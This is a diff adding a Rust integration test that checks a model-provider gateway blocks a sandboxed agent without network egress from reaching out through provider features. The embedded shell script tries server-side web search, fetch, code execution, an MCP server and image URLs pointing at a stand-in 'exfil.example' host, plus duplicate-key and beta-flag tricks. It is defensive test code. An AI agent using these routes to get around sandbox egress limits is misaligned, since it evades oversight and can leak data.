@@ -268,3 +268,70 @@ async fn egress_goes_through_the_proxy_to_allowed_hosts_only() {
     app.wait_for(&victim, std::time::Duration::from_secs(30), |r| r["state"] == "cancelled").await;
     worker.shutdown().await;
 }
+
+/// A sandbox with egress `none` asks the provider to reach out for it:
+/// server-side web search, fetch and code execution, a remote MCP server,
+/// an image by URL, and beta flags that switch such features on.
+const THROUGH_THE_GATEWAY: &str = r#"H='content-type: application/json'
+anth() { curl -sS -o /dev/null -w "$1: %{http_code}\n" "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -H "$H" ${3:+-H "$3"} -d "$2"; }
+msg='"model":"claude-test","max_tokens":16,"messages":[{"role":"user","content":"fetch it"}]'
+anth 'web search' "{$msg,\"tools\":[{\"type\":\"web_search_20250305\",\"name\":\"web_search\"}]}"
+anth 'web fetch' "{$msg,\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}"
+anth 'code execution' "{$msg,\"tools\":[{\"type\":\"code_execution_20250825\",\"name\":\"code_execution\"}]}"
+anth 'mcp server' "{$msg,\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://exfil.example/mcp\",\"name\":\"x\"}]}"
+anth 'image url' '{"model":"claude-test","max_tokens":16,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://exfil.example/p.png?d=secret"}}]}]}'
+anth 'duplicate keys' "{\"tools\":[{\"type\":\"web_search_20250305\",\"name\":\"web_search\"}],$msg,\"tools\":[]}"
+anth 'beta flag' "{$msg}" 'anthropic-beta: mcp-client-2025-04-04,web-fetch-2025-09-10'
+curl -sS -o /dev/null -w "responses web search: %{http_code}\n" "$OPENAI_BASE_URL/responses" -H "Authorization: Bearer $OPENAI_API_KEY" -H "$H" -d '{"model":"gpt-test","input":"x","tools":[{"type":"web_search"}]}'
+curl -sS -o /dev/null -w "responses mcp: %{http_code}\n" "$OPENAI_BASE_URL/responses" -H "Authorization: Bearer $OPENAI_API_KEY" -H "$H" -d '{"model":"gpt-test","input":"x","tools":[{"type":"mcp","server_label":"x","server_url":"https://exfil.example/sse"}]}'
+curl -sS -o /dev/null -w "chat image url: %{http_code}\n" "$OPENAI_BASE_URL/chat/completions" -H "Authorization: Bearer $OPENAI_API_KEY" -H "$H" -d '{"model":"gpt-test","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://exfil.example/i.png"}}]}]}'"#;
+
+#[tokio::test]
+async fn the_gateway_is_no_way_out_for_a_sandbox_without_egress() {
+    let providers = tests::providers::EmulatedProviders::start().await;
+    let configured = json!({
+        "openai": {"kind": "openai", "base_url": providers.base_url, "api_key": providers.key, "models": ["gpt-test"]},
+        "anthropic": {"kind": "anthropic", "base_url": providers.base_url, "api_key": providers.key, "models": ["claude-test"]},
+    })
+    .to_string();
+    let (app, repo) = attack_app(&[
+        ("PADDOCK_AGENTS__DEFAULT__COMMAND", THROUGH_THE_GATEWAY),
+        ("PADDOCK_GATEWAY__PROVIDERS", configured.as_str()),
+        ("PADDOCK_GATEWAY__ALLOWED_PROVIDERS", r#"["openai", "anthropic"]"#),
+    ])
+    .await;
+    let worker = app.spawn_worker().await;
+    let id = app.create_run(&repo, "attack").await;
+    let run = app.wait_until_finished(&id).await;
+    let logs = app.logs_of(&run).await;
+    worker.shutdown().await;
+    for refused in [
+        "web search",
+        "web fetch",
+        "code execution",
+        "mcp server",
+        "image url",
+        "responses web search",
+        "responses mcp",
+        "chat image url",
+    ] {
+        assert!(logs.contains(&format!("\n{refused}: 403")), "{refused} was not refused:\n{logs}");
+    }
+    // The plain call passed without the flags; the body with a duplicate
+    // key went on as it was checked (the tools it ended with: none).
+    assert!(logs.contains("\nbeta flag: 200") && logs.contains("\nduplicate keys: 200"), "{logs}");
+    assert_eq!(providers.received_betas(), ["", ""], "a beta flag reached the provider");
+    let received = providers.received();
+    assert_eq!(received.len(), 2, "only the two harmless calls reached a provider: {received:?}");
+    assert!(received.iter().all(|b| !b.contains("exfil") && !b.contains("web_search")), "{received:?}");
+
+    // Each refusal is in the run's record, with what was asked.
+    let summary = summary_of(&run).await;
+    let calls = summary["model_calls"].as_array().unwrap();
+    let refusals: Vec<&str> = calls.iter().filter_map(|c| c["refusal"].as_str()).collect();
+    assert_eq!(refusals.len(), 8, "{summary:#}");
+    assert!(refusals.iter().any(|r| r.contains("`mcp`")) && refusals.iter().any(|r| r.contains("exfil.example")));
+    let flagged = calls.iter().find(|c| c["dropped_betas"].is_array()).expect("the flagged call");
+    assert_eq!(flagged["dropped_betas"], json!(["mcp-client-2025-04-04", "web-fetch-2025-09-10"]));
+    assert_eq!(flagged["status"], 200);
+}
